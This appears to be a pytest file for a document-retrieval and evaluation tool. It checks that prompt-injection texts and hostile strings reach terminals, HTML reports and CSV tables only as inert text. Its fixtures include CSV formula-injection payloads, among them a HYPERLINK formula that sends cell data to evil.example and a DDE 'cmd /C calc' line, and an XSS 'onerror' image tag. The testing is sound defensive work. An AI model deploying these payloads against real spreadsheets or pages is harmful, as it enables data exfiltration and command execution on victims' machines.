"""The thirty texts that would be obeyed, indexed and asked about: a model that repeats them word for word, and all that shows it."""

from __future__ import annotations

import csv
import io
import os
import re
import sys
from collections.abc import Mapping, Sequence
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import asdict
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from injections import INJECTIONS

from wellread import cli, models
from wellread.commands import terminal
from wellread.fight.comparing_answers import differences, measured
from wellread.fight.gold_asking import replies, write_replies, write_replies_table
from wellread.indexing import index_texts
from wellread.recipe import load_recipe, recipe_text
from wellread.recipe.questions import Answering
from wellread.reports import write_report
from wellread.reports.fight import sides_of
from wellread.retrieval.gold import read_gold
from wellread.retrieval.rag import RetrievalModel
from wellread.retrieval.store import open_store
from wellread.showing import STEERING
from wellread.storage import write_rows, write_text
from wellread.testing import UniformBytes, tiny_model
from wellread.types import Prompt, Reply, Sample, Sampling, last_words

pytest.importorskip("lancedb")
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "|calc",
    "＝1",
]
SAID = [f"{FORMULAS[number % len(FORMULAS)]} {text}" for number, text in enumerate(INJECTIONS)]
PLAIN = [f"Harmless words of number {number}." for number in range(len(INJECTIONS))]
REST = "Nothing else of note was said that day, and the lake lay still. " * 8
"""So much text that the few control characters of one of them do not make its file a binary one."""
LINK = re.compile(r"\x1b\]8;;(?:file:///[!-~]*)?\x1b\\")
"""What we ourselves write to a terminal."""


class Parrot(UniformBytes):
    """Repeats what the paper says that it is asked about: no model could be more obedient."""

    name, window = "parrot", 4000

    def __init__(self, said: Sequence[str]) -> None:
        self._said = said

    def count(self, prompt: Prompt) -> int:
        return len(last_words(prompt)) // 4

    def generate(self, prompts: Sequence[Prompt], sampling: Sampling) -> list[Sample]:
        asked = [re.findall(r"paper(\d+)", last_words(prompt))[-1] for prompt in prompts]
        return [Sample("", f"{self._said[int(n)]} [1]", sampling, 0, self.name, "stop") for n in asked]


class Asked(NamedTuple):
    """A folder of papers, indexed, and questions about them."""

    store: Path
    questions: Path
    parrot: Parrot


def asked(folder: Path, said: Sequence[str]) -> Asked:
    papers, questions = folder / "papers", folder / "gold.jsonl"
    papers.mkdir(parents=True)
    for number, text in enumerate(said):
        name = f"{number} {text}".replace("/", "∕").replace("\0", "")[:60] if os.name != "nt" else str(number)
        (papers / f"{name}.txt").write_text(f"What paper{number} says is this: {text}\n\n{REST}", encoding="utf-8")
    store = folder / "store"
    assert len(index_texts([papers], store, embedder="none").added) == len(said)
    rows = (
        {"id": f"={n}", "question": f"{text} What does paper{n} say?", "answers": [text]} for n, text in enumerate(said)
    )
    write_rows(questions, rows)
    return Asked(store, questions, Parrot(said))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Asked:
    name = "<img src=x onerror=alert(1)>" if os.name != "nt" else "store"
    return asked(tmp_path_factory.mktemp("hostile") / name, SAID)


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Asked:
    return asked(tmp_path_factory.mktemp("harmless") / "papers", PLAIN[:3])


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def wellread(monkeypatch: pytest.MonkeyPatch, parrot: Parrot, *words: str) -> str:
    """What a terminal is sent."""
    real, out = models.open_model, Terminal()
    monkeypatch.setattr(models, "open_model", lambda name, **how: parrot if name == "parrot" else real(name, **how))
    monkeypatch.setattr(terminal, "_columns", lambda stream: 80)
    monkeypatch.setattr(sys, "argv", ["wellread", *words])
    with redirect_stdout(out), redirect_stderr(out), pytest.raises(SystemExit) as end:
        cli.main()
    assert not end.value.code, out.getvalue()
    return out.getvalue()


def letters(text: str) -> str:
    """What is read of a text, whatever its lines, its blanks and the numbers of its sources."""
    return re.sub(r"\s|\[\d+\*?\]", "", STEERING.sub("", text))


class Page(HTMLParser):
    """The elements of a page, each with the names of its attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.links: list[str] = []
        self._text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action", "data")]

    def handle_data(self, data: str) -> None:
        self._text.append(data)

    @property
    def text(self) -> str:
        return "".join(self._text)


def assert_dead(page: str, beside: str) -> None:
    """No element, attribute or link in a page that is not in the same page of harmless texts, and nothing that steers."""
    found, known = Page(page), Page(beside)
    assert set(found.elements) <= set(known.elements)
    assert set(found.links) <= set(known.links)
    assert not STEERING.search(page)


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert len({len(row) for row in rows}) == 1
    for cell in (cell for row in rows for cell in row):
        assert not re.match(r"\s*[=+\-@|\t\r＝＋－＠]", cell), cell
        assert not STEERING.search(cell)
    return rows


def test_a_terminal_is_sent_their_words_and_nothing_that_steers_it(
    hostile: Asked, monkeypatch: pytest.MonkeyPatch
) -> None:
    words = ["ask", "parrot", "--questions", str(hostile.questions), "--store", str(hostile.store), "--anyway"]
    sent = wellread(monkeypatch, hostile.parrot, *words)
    assert LINK.search(sent)
    assert not STEERING.search(LINK.sub("", sent))
    shown = letters(LINK.sub("", sent))
    for number, text in enumerate(SAID):
        assert letters(f"> {text} What does paper{number} say?{text}") in shown  # the question, then the answer
    assert shown.count("Sources") == len(SAID)


@pytest.mark.slow
def test_the_tiny_model_is_asked_about_them_as_any_other(
    hostile: Asked, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tiny = tiny_model(tmp_path / "tiny", [REST, *SAID], vocabulary=600, positions=1024)
    words = ["ask", str(tiny), "--questions", str(hostile.questions), "--store", str(hostile.store), "--anyway"]
    sent = wellread(monkeypatch, hostile.parrot, *words, "--max-tokens", "4", "-k", "1")
    assert not STEERING.search(LINK.sub("", sent))
    assert sent.count("cited") + sent.count("Sources") >= len(SAID)


def compared(monkeypatch: pytest.MonkeyPatch, given: Asked, page: Path) -> str:
    words = ["compare", "--questions", str(given.questions), "--metrics", "answer_f1,citation_precision,refusal_rate"]
    return wellread(monkeypatch, given.parrot, *words, "parrot", f"parrot+{given.store}", "--html", str(page))


@pytest.mark.slow
def test_a_comparison_shows_none_of_them_as_markup_or_formula(
    hostile: Asked, harmless: Asked, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    page, beside = tmp_path / "page.html", tmp_path / "beside.html"
    compared(monkeypatch, harmless, beside)
    sent = compared(monkeypatch, hostile, page)
    assert not STEERING.search(sent)
    assert_dead(page.read_text(encoding="utf-8"), beside.read_text(encoding="utf-8"))
    if os.name != "nt":
        assert "<img src=x onerror=alert(1)>" in Page(page.read_text(encoding="utf-8")).text
    rows = cells(page.with_suffix(".csv"))
    assert len(rows) == 1 + 2 * len(SAID)
    assert sum(cell.startswith("'") for row in rows for cell in row) > 3 * len(SAID)


def fought(given: Asked, folder: Path) -> str:
    """The page of a fight whose base is the parrot, alone and with retrieval."""
    gold, settings = read_gold(given.questions), Answering(stops=())
    sides = sides_of(load_recipe("handbook", ()))
    retrieving = RetrievalModel(given.parrot, open_store(given.store))
    said: Mapping[str, list[Reply]] = {
        sides.base: replies(given.parrot, gold, settings), sides.retrieval: replies(retrieving, gold, settings)
    }  # fmt: skip
    assert all(reply.cited for reply in said[sides.retrieval])
    rows: dict[str, Any] = {
        name: measured(name, several, ["answer_f1", "refusal_rate"]) for name, several in said.items()
    }
    rows["-"] = differences(rows[sides.retrieval], rows[sides.base])
    write_text(folder / "recipe.yaml", recipe_text("handbook"))
    write_rows(folder / "questions" / "gold.jsonl", map(asdict, gold))
    write_replies(folder / "answers" / "base.jsonl", said[sides.base])
    write_replies(folder / "answers" / "base+retrieval.jsonl", said[sides.retrieval])
    write_rows(folder / "measurements.jsonl", (row.as_json() for several in rows.values() for row in several))
    write_replies_table(folder / "answers.csv", said)
    return write_report(folder).read_text(encoding="utf-8")


@pytest.mark.slow
def test_a_fight_shows_them_as_text_on_its_page_and_in_its_table(
    hostile: Asked, harmless: Asked, tmp_path: Path
) -> None:
    page = fought(hostile, tmp_path / "hostile")
    assert_dead(page, fought(harmless, tmp_path / "harmless"))
    text = letters(Page(page).text)
    assert all(text.count(letters(each)) == 4 for each in SAID)  # asked, right, and said by both sides
    rows = cells(tmp_path / "hostile" / "answers.csv")
    assert len(rows) == 1 + 2 * len(SAID)
    assert sum(".txt" in cell for row in rows for cell in row) == 2 * len(SAID)  # the sources, and those cited
